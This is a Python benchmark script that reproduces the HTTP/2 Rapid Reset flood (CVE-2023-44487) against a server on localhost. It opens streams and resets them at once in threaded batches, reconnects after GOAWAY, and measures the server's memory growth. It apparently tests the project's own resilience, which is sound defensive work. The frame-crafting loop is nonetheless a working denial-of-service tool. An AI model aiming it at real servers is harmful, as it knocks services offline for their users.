#!/usr/bin/env python3
"""Rapid Reset with reconnects (CVE-2023-44487's shape): each connection opens streams and
resets them at once until the server answers GOAWAY (or closes), then the client reconnects,
for SECONDS; the server's RSS is sampled every second. Prints connections made, streams sent,
and RSS before, at its peak and 10 s after the storm.

    bench/h2/reset-storm.py PORT PID [SECONDS] [CLIENTS]
"""
import socket, struct, sys, threading, time

port, pid = int(sys.argv[1]), int(sys.argv[2])
seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 30
clients = int(sys.argv[4]) if len(sys.argv) > 4 else 4

def rss_kib():
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
# :method GET, :scheme http, :path /, :authority (literal, not indexed) "a"
BLOCK = bytes([0x82, 0x86, 0x84, 0x01, 0x01]) + b"a"
stats = {"connections": 0, "streams": 0}
stop = time.time() + seconds
lock = threading.Lock()

def client():
    while time.time() < stop:
        try:
            s = socket.create_connection(("127.0.0.1", port))
        except OSError:
            time.sleep(0.01)
            continue
        s.settimeout(2)
        sent = 0
        try:
            s.sendall(PREFACE)
            stream = 1
            while time.time() < stop and stream < 2**31 - 2:
                batch = b"".join(frame(1, 5, stream + 2 * i, BLOCK) + frame(3, 0, stream + 2 * i, struct.pack(">I", 8)) for i in range(50))
                s.sendall(batch)
                stream += 100
                sent += 50
                s.setblocking(False)
                try:
                    data = s.recv(65536)
                    if data == b"":
                        break
                except BlockingIOError:
                    pass
                finally:
                    s.setblocking(True)
                    s.settimeout(2)
        except OSError:
            pass
        finally:
            s.close()
        with lock:
            stats["connections"] += 1
            stats["streams"] += sent

before = rss_kib()
threads = [threading.Thread(target=client, daemon=True) for _ in range(clients)]
for t in threads:
    t.start()
peak = before
while time.time() < stop:
    time.sleep(1)
    peak = max(peak, rss_kib())
for t in threads:
    t.join()
time.sleep(10)
after = rss_kib()
print(f"connections {stats['connections']}, streams sent {stats['streams']}; RSS before {before / 1024:.1f} MiB, "
      f"peak {peak / 1024:.1f} MiB (+{(peak - before) / 1024:.1f}), 10 s after {after / 1024:.1f} MiB")
